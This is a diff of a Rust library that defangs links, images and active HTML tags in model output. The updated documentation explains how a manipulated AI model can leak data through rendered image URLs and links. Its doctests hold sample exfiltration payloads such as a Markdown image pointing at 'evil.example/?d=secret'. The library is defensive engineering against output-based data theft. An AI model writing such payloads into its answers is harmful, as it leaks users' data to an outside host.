@@ -18,31 +18,34 @@
 //! # Ok::<(), secure_tool_text::Error>(())
 //! ```
 //!
-//! A model that was talked into it carries data out by what it writes: a picture whose address
-//! holds the data is fetched as soon as the answer is shown, a link as soon as it is clicked. So
-//! each construct of markdown and HTML that loads or leads is looked at where it stands, whatever
-//! is around it: code, comments, quotations. Readers differ in these, and no reader is trusted to
-//! see what another one sees.
+//! A manipulated model can leak data through its output. An image whose URL contains the data is
+//! fetched as soon as the answer is shown; a link, when a reader clicks it. So every construct of
+//! Markdown and HTML that loads or links is checked, in any context: code, comments, quotations.
+//! Parsers differ in these contexts, so none is trusted to see what another one sees.
 //!
-//! | in the text | what becomes of it, if it is not allowed |
-//! |--|--|
-//! | `[text](address "title")`, `![text](address)` | `[text] (link removed: host)`, `[text] (image removed: host)` |
-//! | the same, so written that readers differ on its end | `[text] (…`, which is no link |
-//! | `[label]: address` where a definition may stand | `[label] : address`, which defines nothing |
-//! | `<https://host/…>` | `(link removed: host)` |
-//! | `<img src=… alt="words">`, `<a href=…>`, other elements with an attribute that is not known to be harmless | `(image removed: words)`, `(link removed: host)`, `(form removed)` |
-//! | `<script>`, `<style>`, a tag that does not end, `<scheme:…>` | `< script>`, which is no tag |
-//! | `https://host/path?query`, `www.host/path` | `hxxps://host/path…`, `www[.]host/path`, with `[.]` for the dots of the host |
-//! | `scheme://…` of other schemes | `scheme[:]//…` |
-//! | an address whose letters are escaped (`https&colon;//…`) | as the address |
+//! Each construct that is not allowed is replaced:
 //!
-//! Allowed is `https` to a host of the list or below one (see [`Allowlist`]); a
-//! destination within the page, or on the page's own host, is not. Doing it twice changes nothing
-//! more, and it takes time linear in the text, whatever the text is. It reads forward only and
-//! never looks back further than a few bytes, so that it serves streams too.
+//! - `[text](address "title")` becomes `[text] (link removed: host)`, and `![text](address)` becomes
+//!   `[text] (image removed: host)`. If parsers differ on its end, it becomes `[text] (…`, which is
+//!   not a link.
+//! - `[label]: address` becomes `[label] : address`, which defines nothing.
+//! - `<https://host/…>` becomes `(link removed: host)`.
+//! - `<img src=… alt="words">` becomes `(image removed: words)`, and `<a href=…>` becomes
+//!   `(link removed: host)`. Other elements with an attribute outside of the list of harmless ones
+//!   become `(form removed)` or similar.
+//! - `<script>`, `<style>`, an unclosed tag and `<scheme:…>` become `< script>`, which is not a tag.
+//! - `https://host/path?query` becomes `hxxps://host/path…`, and `www.host/path` becomes
+//!   `www[.]host/path`, with `[.]` for each dot of the host.
+//! - `scheme://…` of another scheme becomes `scheme[:]//…`.
+//! - A URL with escaped characters (`https&colon;//…`) is handled like the URL.
 //!
-//! It does not look at bare names (`evil.example/x`), which some readers guess links from, nor at
-//! e-mail addresses.
+//! An `https` URL to a host of the list or a subdomain is allowed (see [`Allowlist`]). Destinations
+//! within the page, or on the page's own host, are not. Defanging is idempotent and takes time
+//! linear in the length of any text. It reads forward and looks back a few bytes at most, so it
+//! also serves streams.
+//!
+//! Not covered: bare host names (`evil.example/x`), which some readers turn into links, and e-mail
+//! addresses.
 
 mod allow;
 mod entity;
@@ -56,7 +59,12 @@ use std::borrow::Cow;
 pub use allow::Allowlist;
 pub use scan::Scanner;
 
-/// How many links and images were made inert.
+/// The number of defanged links and images.
+///
+/// ```
+/// let defanged = secure_tool_text::defang("[a](https://evil.example) ![](https://evil.example)");
+/// assert_eq!((defanged.counts.links(), defanged.counts.images()), (1, 1));
+/// ```
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
 pub struct Counts {
     images: u32,
@@ -72,20 +80,26 @@ impl Counts {
         self.links = self.links.saturating_add(1);
     }
 
-    /// Returns how many links, tags and definitions were made inert.
+    /// Returns the number of defanged links, tags and definitions.
     #[must_use]
     pub const fn links(self) -> u32 {
         self.links
     }
 
-    /// Returns how many images were made inert.
+    /// Returns the number of defanged images.
     #[must_use]
     pub const fn images(self) -> u32 {
         self.images
     }
 
-    /// Returns the stable ids of what was found, `defanged.image` and `defanged.link`, and how
-    /// often.
+    /// Returns the stable ids of the findings, `defanged.image` and `defanged.link`, each with its
+    /// count.
+    ///
+    /// ```
+    /// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
+    /// let found: Vec<_> = defanged.counts.found().filter(|(_, count)| *count > 0).collect();
+    /// assert_eq!(found, [("defanged.image", 1)]);
+    /// ```
     pub fn found(self) -> impl Iterator<Item = (&'static str, u32)> {
         [("defanged.image", self.images), ("defanged.link", self.links)]
             .into_iter()
@@ -93,18 +107,24 @@ impl Counts {
     }
 }
 
-/// A text without live links, and what was made inert.
+/// A defanged text with its counts.
+///
+/// ```
+/// use std::borrow::Cow;
+///
+/// let defanged = secure_tool_text::defang("Boils fast.");
+/// assert!(matches!(defanged.text, Cow::Borrowed("Boils fast.")));
+/// ```
 #[derive(Debug, Clone, PartialEq, Eq)]
 #[non_exhaustive]
 pub struct Defanged<'t> {
-    /// The text; borrowed if nothing was changed.
+    /// The text; borrowed if it is unchanged.
     pub text: Cow<'t, str>,
-    /// How many links and images were made inert.
+    /// The number of defanged links and images.
     pub counts: Counts,
 }
 
-/// Makes all links, images and active tags of a text inert. Idempotent; takes time linear in the
-/// text.
+/// Defangs all links, images and active tags of a text. Idempotent. Takes time linear in the text.
 ///
 /// ```
 /// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
@@ -115,17 +135,28 @@ pub fn defang(text: &str) -> Defanged<'_> {
     defang_except(text, &Allowlist::default())
 }
 
-/// Makes links, images and active tags inert, except for `https` links and images to allowed hosts
-/// and their subdomains. Idempotent; takes time linear in the text.
+/// Defangs all links, images and active tags, except for `https` links and images to allowed hosts
+/// and their subdomains. Idempotent. Takes time linear in the text.
 ///
-/// See [the module](self) for an example.
+/// ```
+/// use secure_tool_text::{Allowlist, defang_except};
+///
+/// let allowed = Allowlist::new(vec!["shop.example".into()])?;
+/// let answer = "[order](https://shop.example/1) [more](https://evil.example/?d=secret)";
+/// let defanged = defang_except(answer, &allowed);
+/// assert_eq!(
+///     defanged.text,
+///     "[order](https://shop.example/1) [more] (link removed: evil[.]example)"
+/// );
+/// # Ok::<(), secure_tool_text::Error>(())
+/// ```
 #[must_use]
 pub fn defang_except<'t>(text: &'t str, allowed: &Allowlist) -> Defanged<'t> {
     let mut counts = Counts::default();
     Defanged { text: defang_counted(text, allowed, &mut counts), counts }
 }
 
-/// Does what [`defang_except`] does, and adds to the counts of several texts.
+/// Defangs as [`defang_except`] does, and adds to existing counts.
 ///
 /// ```
 /// use secure_tool_text::defang::{Allowlist, Counts, defang_counted};
@@ -150,7 +181,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_is_harmless_is_borrowed_and_what_is_not_is_counted() {
+    fn harmless_text_is_borrowed_and_defanged_links_are_counted() {
         let allowed = Allowlist::new(vec!["shop.example".into()]).expect("a host");
         let mut counts = Counts::default();
         for honest in [
